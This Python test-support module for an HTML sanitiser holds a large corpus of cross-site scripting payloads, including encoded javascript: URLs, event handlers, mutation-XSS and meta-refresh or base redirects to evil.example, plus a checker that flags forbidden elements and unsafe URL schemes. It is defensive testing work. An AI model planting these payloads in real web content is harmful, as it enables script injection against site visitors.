"""A corpus of hostile article HTML, and the check that sanitised HTML is harmless.

``PAYLOADS`` covers script tags, event handlers, javascript:/vbscript:/data: URLs (plain,
case-mixed, entity-encoded, split by whitespace), SVG and MathML, style injection, frames and
plugins, forms, meta refresh and base, srcset tricks, comments, CDATA and broken markup.
``BROWSER_PAYLOADS`` would visibly do something in a browser if they ran: set
``window.__pwned``, change ``document.title`` or open a dialog.

``assert_harmless(html)`` parses the HTML the way a browser does (lxml's HTML parser) and
fails on any element, attribute or URL that could run code or restyle the page.
"""

from __future__ import annotations

import html as html_lib
import re

from lxml import html as lxml_html

PAYLOADS: list[str] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" OnErRoR="alert(1)">',
    "<img src=x onerror\n=\nalert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">j</a>',
    '<a href="JaVaScRiPt:alert(1)">j</a>',
    '<a href=" javascript:alert(1)">j</a>',
    '<a href="java\tscript:alert(1)">j</a>',
    '<a href="java&#x09;script:alert(1)">j</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">j</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">j</a>',
    '<a href="javascript&colon;alert(1)">j</a>',
    '<a href="vbscript:msgbox(1)">v</a>',
    '<a href="VBScript:msgbox(1)">v</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>',
    '<a href="DATA:text/html,<script>alert(1)</script>">d</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="javascript:alert(1)">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<button formaction="javascript:alert(1)">b</button>',
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>x</details>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<p style="background:url(javascript:alert(1))">s</p>',
    '<div style="width: expression(alert(1))">s</div>',
    '<p STYLE="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<img srcset="javascript:alert(1) 1x, https://img.example/x.jpg 2x">',
    '<img src=x srcset="data:image/svg+xml,&lt;svg onload=alert(1)&gt; 1x">',
    '<picture><source srcset="javascript:alert(1)"><img src="https://img.example/x.jpg"></picture>',
    "<!--<img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!-- --!><script>alert(1)</script> -->",
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<p>unclosed <b>bold <i>italic",
    "</p></div></body></html><script>alert(1)</script>",
    '<img """><script>alert(1)</script>">',
    '<a href="https://example.com/" title="x" onmouseover="alert(1)">hover</a>',
    '<a href="https://example.com/" target="_blank">new window</a>',
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<video><source onerror="alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>m</marquee>",
    "<textarea><script>alert(1)</script></textarea>",
    '<table background="javascript:alert(1)"><tr><td>t</td></tr></table>',
    '<blockquote cite="javascript:alert(1)">q</blockquote>',
    "<a href='https://example.com/\"onmouseover=\"alert(1)'>quote break</a>",
    "\x00<script>alert(1)</script>\x0b\ufffe",
    "<p>ok</p><script>/*</p>*/alert(1)</script>",
    '<div id="x" class="y" data-x="1" contenteditable>attrs</div>',
    '<a href="//evil.example/%0a%0djavascript:alert(1)">protocol-relative</a>',
]

# Each of these does something observable if it runs (see test_security_integration.py).
BROWSER_PAYLOADS: list[str] = [
    "<script>window.__pwned = 'script'; document.title = 'pwned'</script>",
    "<img src=x onerror=\"window.__pwned = 'img'; document.title = 'pwned'\">",
    "<svg onload=\"window.__pwned = 'svg'\"></svg>",
    "<svg><script>window.__pwned = 'svg-script'</script></svg>",
    "<details open ontoggle=\"window.__pwned = 'details'\">x</details>",
    "<input autofocus onfocus=\"window.__pwned = 'focus'\">",
    "<iframe srcdoc=\"<script>parent.__pwned = 'srcdoc'</script>\"></iframe>",
    "<iframe src=\"javascript:parent.__pwned = 'iframe'\"></iframe>",
    "<object data=\"data:text/html,<script>parent.__pwned='object'</script>\"></object>",
    "<math><mtext><table><mglyph><style><img src=x onerror=\"window.__pwned='mxss'\">",
    "<noscript><p title=\"</noscript><img src=x onerror=window.__pwned='noscript'>\"></noscript>",
    "<img src=x onerror=alert('xss-img')>",
    "<body onload=alert('xss-body')>",
    '<style>body{display:none}</style><p style="display:none">hidden</p>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "<a id=autoclick href=\"javascript:window.__pwned='link'\">click me</a>",
]
TITLE_PAYLOADS: list[str] = [
    "</title><script>window.__pwned='title'</script>",
    "<img src=x onerror=\"window.__pwned='title-img'\">",
    "\"><svg onload=window.__pwned='attr'>",
]

FORBIDDEN_ELEMENTS = {
    "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "input", "button",
    "textarea", "select", "meta", "link", "base", "svg", "math", "template", "noscript", "video", "audio",
    "marquee", "details", "xss",
}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "cite", "action", "formaction", "background", "poster", "data", "xlink:href"}
SAFE_SCHEMES = {"http", "https", "mailto"}
_SCHEME = re.compile(r"^([a-zA-Z][a-zA-Z0-9+.\-]*):")


def url_scheme(value: str) -> str | None:
    """The scheme a browser would see: entities decoded, whitespace and controls removed."""
    text = html_lib.unescape(value)
    text = re.sub(r"[\x00-\x20\x7f-\x9f]", "", text)
    match = _SCHEME.match(text)
    return match.group(1).lower() if match else None


def problems(fragment: str, *, forbidden: set[str] = FORBIDDEN_ELEMENTS) -> list[str]:
    """Everything in ``fragment`` (HTML) that could run script or restyle the page."""
    if not fragment.strip():
        return []
    tree = lxml_html.fragment_fromstring(fragment, create_parent="div")
    found = []
    for el in tree.iter():
        if not isinstance(el.tag, str):
            continue  # comments and processing instructions are inert
        tag = el.tag.lower().split("}")[-1]
        if tag in forbidden:
            found.append(f"<{tag}> element")
        for name, value in el.attrib.items():
            name = name.lower().split("}")[-1]
            if name.startswith("on"):
                found.append(f"{name} handler on <{tag}>")
            if name in ("style", "srcdoc", "formaction", "xlink:href", "background"):
                found.append(f"{name} attribute on <{tag}>")
            if name in URL_ATTRIBUTES and (scheme := url_scheme(value)) and scheme not in SAFE_SCHEMES:
                found.append(f"{scheme}: URL in {name} of <{tag}>")
            if name in ("srcset",):
                for candidate in value.split(","):
                    bits = candidate.split()
                    if bits and (scheme := url_scheme(bits[0])) and scheme not in SAFE_SCHEMES:
                        found.append(f"{scheme}: URL in srcset of <{tag}>")
            if name == "target":
                found.append(f"target attribute on <{tag}> (tabnabbing)")
    return found


def assert_harmless(fragment: str, where: str = "") -> None:
    found = problems(fragment)
    assert not found, f"{where}: {found} in {fragment[:300]!r}"


PAGE_FORBIDDEN = {
    "iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math", "style", "base", "template",
    "marquee", "details", "xss", "textarea", "video", "audio",
}  # fmt: skip


def page_problems(document: str) -> list[str]:
    """``problems`` for a whole page of our own templates: their search form, meta and link
    elements are expected; a script must be inert JSON-LD that no string can break out of."""
    tree = lxml_html.document_fromstring(document)
    found = problems(lxml_html.tostring(tree.body, encoding="unicode"), forbidden=PAGE_FORBIDDEN | {"script"})
    head = tree.find("head")
    for el in head.iter() if head is not None else []:
        if not isinstance(el.tag, str):
            continue
        tag = el.tag.lower()
        if tag == "script":
            if (el.get("type") or "").lower() != "application/ld+json":
                found.append("executable <script> in <head>")
            elif "<" in (el.text or ""):
                found.append("'<' inside JSON-LD (could close the script element)")
        elif tag in PAGE_FORBIDDEN:
            found.append(f"<{tag}> in <head>")
        elif tag == "meta" and (el.get("http-equiv") or "").lower() == "refresh":
            found.append("meta refresh")
        for name, value in el.attrib.items():
            if name.lower().startswith("on"):
                found.append(f"{name} handler on <{tag}> in <head>")
            if name.lower() in ("href", "src") and (scheme := url_scheme(value)) and scheme not in SAFE_SCHEMES:
                found.append(f"{scheme}: URL on <{tag}> in <head>")
    return found
